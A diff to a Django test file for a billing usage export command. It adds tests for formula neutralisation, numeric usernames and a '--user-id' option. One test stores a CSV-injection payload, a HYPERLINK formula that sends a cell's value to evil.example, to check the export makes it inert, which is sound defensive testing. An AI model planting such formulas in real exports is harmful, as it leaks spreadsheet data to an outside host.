@@ -17,6 +17,7 @@ from django.core.management.base import CommandError
 from accounts.models import ApiKey
 from billing.exports import OPERATOR_COLUMNS, USAGE_COLUMNS
 from billing.models import UsageRecord, UsageStatus
+from tests.conftest import make_user
 from tests.servers import ROOT, server_env
 
 DAY = datetime(2026, 11, 10, tzinfo=UTC)
@@ -71,9 +72,26 @@ def test_csv_holds_the_utc_days_from_up_to_not_including_to_with_the_usage_colum
     assert "exported 3 row(s)" in err
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_made_inert(db, alice):
+    key = ApiKey.objects.create(user=alice, name='=HYPERLINK("https://evil.example/?"&A2,"x")', key_hash="1" * 64)
+    UsageRecord.objects.bulk_create([record(alice, DAY, 7, key)])
+    UsageRecord.objects.filter(request_id=f"req-{alice.pk}-7").update(model="@SUM(1+1)")
+    out, _ = export("--from", "2026-11-10", "--to", "2026-11-11")
+    row = dict(zip(OPERATOR_COLUMNS, next(csv.reader(io.StringIO(out.splitlines()[1]))), strict=True))
+    assert row["key"].startswith("'=HYPERLINK") and row["model"] == "'@SUM(1+1)"
+    assert row["cost_usd"] == "0.00012345" and row["input_tokens"] == "17"  # numbers untouched
+
+
+def test_a_username_of_digits_is_a_username(db, alice):
+    digits = make_user("3")
+    UsageRecord.objects.bulk_create([record(digits, DAY, 1), record(alice, DAY, 2)])
+    out, _ = export("--from", "2026-11-10", "--to", "2026-11-11", "--user", "3", "--format", "jsonl")
+    assert [json.loads(line)["user"] for line in out.splitlines()] == ["3"]
+
+
 def test_one_user_by_name_or_id_and_json_lines(usage, alice):
     by_name, _ = export("--from", "2026-11-01", "--to", "2026-12-01", "--user", "alice", "--format", "jsonl")
-    by_id, _ = export("--from", "2026-11-01", "--to", "2026-12-01", "--user", str(alice.pk), "--format", "jsonl")
+    by_id, _ = export("--from", "2026-11-01", "--to", "2026-12-01", "--user-id", str(alice.pk), "--format", "jsonl")
     assert by_name == by_id
     lines = [json.loads(line) for line in by_name.splitlines()]
     assert len(lines) == 4 and {line["user"] for line in lines} == {"alice"}
